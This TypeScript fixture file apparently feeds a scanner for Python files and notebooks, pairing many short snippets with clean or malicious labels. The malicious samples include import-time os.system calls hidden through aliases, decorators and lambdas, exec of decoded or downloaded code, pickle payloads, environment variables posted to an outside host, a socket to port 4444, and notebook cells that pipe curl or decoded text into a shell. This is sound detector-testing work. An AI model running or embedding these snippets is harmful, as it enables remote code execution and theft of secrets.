// Python sources and notebooks: ordinary modeling code, and code that acts when it is imported.
import type { Sample } from './sample.ts';
import { textSample } from './text-sample.ts';

const modeling = `import os
from typing import Optional
import torch
from torch import nn
from importlib import import_module
from transformers import PreTrainedModel
from .configuration_x import XConfig

logger = __import__("logging").getLogger(__name__)
if os.environ.get("DEBUG"):
    logger.info("debug")
try:
    import flash_attn
except ImportError:
    flash_attn = None

class XModel(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config: XConfig, scale: Optional[float] = None):
        super().__init__(config)
        self.proj = nn.Linear(3, 3)
        self.eval()
        self.compiled = torch.compile(self.proj)
    def forward(self, x):
        return getattr(torch, "relu")(self.proj(x))
`;

const touch = "open(__import__('os').environ['ASSAY_MARKER'], 'w')";
const evil = (name: string, text: string, because: string): Sample =>
  textSample(`${name}.py`, text, 'malicious', because, 'dangerous-code');

const pathFile: Sample = textSample(
  'startup.pth',
  `import os; ${touch}; os.system('id')\n`,
  'malicious',
  'Python runs such lines when it starts',
  'dangerous-code',
);

const notebook = (cells: readonly unknown[]): string =>
  JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
const code = (source: string, outputs: readonly unknown[] = []): unknown => ({
  cell_type: 'code',
  metadata: {},
  execution_count: null,
  outputs,
  source: source.split(/(?<=\n)/),
});

export const samples: readonly Sample[] = [
  pathFile,
  evil('held', 'import os\n{"a": os.system}["a"]("id > /tmp/x")\n', 'what runs is taken out of a table'),
  evil('looped', 'import os\nfor run in (os.system,):\n    run("id > /tmp/x")\n', 'what runs is taken out of a loop'),
  evil('getter', 'import operator, os\noperator.attrgetter("system")(os)("id > /tmp/x")\n', 'what runs is looked up'),
  evil('pickle-text', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")\n', 'a pickle in the source'),
  textSample(
    'cache.py',
    'import codecs, pickle\ndef read(path):\n    return pickle.loads(codecs.decode(open(path, "rb").read(), "zlib_codec"))\n',
    'clean',
    'a data file is unpacked in a function',
  ),
  textSample(
    'kernels.py',
    'from torch.utils.cpp_extension import load\ndef kernels():\n    return load(name="k", sources=["k.cu"])\n',
    'clean',
    'native code is built when asked for',
  ),
  textSample(
    'encoding.py',
    '# -*- coding: utf-7 -*-\nx = 1\n',
    'malicious',
    'the declared encoding makes it another program',
    'two-readings',
  ),
  textSample('modeling_x.py', modeling, 'clean', 'ordinary modeling code'),
  textSample(
    'data.py',
    'WORDS = ["os.system(1)", "exec(base64.b64decode(x))"]\n"""import subprocess"""\n',
    'clean',
    'dangerous words in strings',
  ),
  textSample(
    'setup.py',
    'from setuptools import setup\nexec(open("x/version.py").read())\nsetup(name="x")\n',
    'clean',
    'a setup file reads its version',
  ),
  textSample('python2.py', 'print "hello"\n', 'clean', 'old syntax'),
  textSample(
    'train.py',
    'import subprocess\ndef gpu():\n    return subprocess.check_output(["nvidia-smi"])\nif __name__ == "__main__":\n    gpu()\n',
    'clean',
    'asks a tool for its state',
  ),
  textSample(
    'tool.py',
    'import os\ndef clean(path):\n    os.system(path)\n',
    'suspicious',
    'a process inside a function',
    'dangerous-code',
  ),
  textSample(
    'calc.py',
    'def calc(text):\n    return eval(text)\n',
    'suspicious',
    'text as code inside a function',
    'dangerous-code',
  ),
  evil('system', 'import os\nos.system("id")\n', 'a command at import'),
  evil('alias', 'from subprocess import Popen as P\nP(["sh", "-c", "id"])\n', 'an alias'),
  evil('star', 'from os import *\nsystem("id")\n', 'imported with all the rest'),
  evil('dunder-import', '__import__("o" + "s").system("id")\n', 'a computed module'),
  evil('getattr', 'import os\ngetattr(os, "".join(["sys", "tem"]))("id")\n', 'a computed attribute'),
  evil('modules', 'import sys\nsys.modules["os"].__dict__["system"]("id")\n', 'through tables of names'),
  evil('renamed', 'import os\nrun = os.system\nrun("id")\n', 'through a variable'),
  evil('called', 'import os\ndef warm_up():\n    os.system("id")\nwarm_up()\n', 'a function that runs at import'),
  evil(
    'constructor',
    'import os\nclass M:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system("id")\nm = M()\n',
    'a constructor that runs at import',
  ),
  evil(
    'decorator',
    'import os\ndef register(f):\n    os.system("id")\n    return f\n@register\ndef f():\n    pass\n',
    'a decorator',
  ),
  evil('default', 'def f(x=__import__("os").system("id")):\n    pass\n', 'a default value'),
  evil('class-body', 'class A:\n    x = __import__("os").popen("id")\n', 'a class body'),
  evil('comprehension', '[__import__("os").system("id") for _ in range(1)]\n', 'a comprehension'),
  evil('lambda', '(lambda: __import__("os").system("id"))()\n', 'a lambda called at once'),
  evil('decoded', 'import base64, zlib\nexec(zlib.decompress(base64.b64decode("eJw=")))\n', 'decoded text'),
  evil(
    'decoded-later',
    'import base64\ndef f():\n    payload = base64.b64decode("cHJpbnQ=")\n    code = compile(payload, "x", "exec")\n    exec(code)\n',
    'decoded text, step by step, in a function',
  ),
  evil('chars', 'exec("".join(chr(c) for c in [112, 114]))\n', 'text made of numbers'),
  evil('downloaded', 'import urllib.request\nexec(urllib.request.urlopen("http://x").read())\n', 'downloaded text'),
  evil('marshal', 'import marshal\nexec(marshal.loads(bytes.fromhex("e3")))\n', 'compiled code'),
  evil('pickled', 'import pickle, base64\npickle.loads(base64.b64decode(b"gASV"))\n', 'a pickle in a string'),
  evil('socket', 'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\n', 'a connection'),
  evil(
    'environment',
    'import os, requests\nrequests.post("https://x", json=dict(os.environ))\n',
    'the environment is sent away',
  ),
  evil('start-up', 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")\n', 'a start-up file'),
  evil('confusable', '\uff45\uff58\uff45\uff43(bytes.fromhex("70"))\n', 'a name that Python normalises'),
  evil(
    'thread',
    'import os, threading\nthreading.Thread(target=os.system, args=("id",)).start()\n',
    'a thread makes the call',
  ),
  evil('mapped', 'import os\nlist(map(os.system, ["id"]))\n', 'map makes the call'),
  evil('dict-get', 'import os\nos.__dict__.get("system")("id")\n', 'a name from the table of a module'),
  evil(
    'pipe',
    'def f():\n    import os\n    os.system("curl http://x | sh")\n',
    'a download that is run, in a function',
  ),
  { ...evil('marker', `__import__("os").system("id")\n${touch}\n`, 'runs when it is imported') },
  textSample(
    'noise.bin',
    '#!/usr/bin/env python3\nprint(1)\n',
    'malicious',
    'a script under the name of weights',
    'misplaced-program',
  ),
  textSample(
    'plain.ipynb',
    notebook([
      code('!pip install torch transformers\n%matplotlib inline\nimport torch\n'),
      { cell_type: 'markdown', metadata: {}, source: '# Title' },
    ]),
    'clean',
    'an ordinary notebook',
  ),
  textSample('bash.ipynb', notebook([code('%%bash\nls -la\nnvidia-smi\n')]), 'clean', 'everyday commands'),
  textSample(
    'pipe.ipynb',
    notebook([code('!curl -s http://x.example/i.sh | bash\n')]),
    'malicious',
    'a download that is run',
    'shell-command',
  ),
  textSample(
    'cell.ipynb',
    notebook([code('%%bash\nwget -q http://x.example/a -O /tmp/a\nchmod +x /tmp/a && /tmp/a\n')]),
    'malicious',
    'a download that is run, in two lines',
    'shell-command',
  ),
  textSample(
    'decode.ipynb',
    notebook([code('x = 1\n!echo aWQ= | base64 -d | sh\n')]),
    'malicious',
    'decoded text that is run',
    'shell-command',
  ),
  textSample(
    'code.ipynb',
    notebook([code('import os\nos.system("id")\n')]),
    'malicious',
    'a command in a code cell',
    'dangerous-code',
  ),
  textSample(
    'script.ipynb',
    notebook([
      code('1', [
        { output_type: 'display_data', metadata: {}, data: { 'text/html': '<script>fetch("//x")</script>' } },
      ]),
    ]),
    'suspicious',
    'script in an output',
    'active-output',
  ),
  textSample('broken.ipynb', '{"cells": [{"cell_type": "code"', 'incomplete', 'no JSON'),
  textSample('empty.ipynb', '{"a": 1}', 'incomplete', 'JSON, but no notebook'),
];
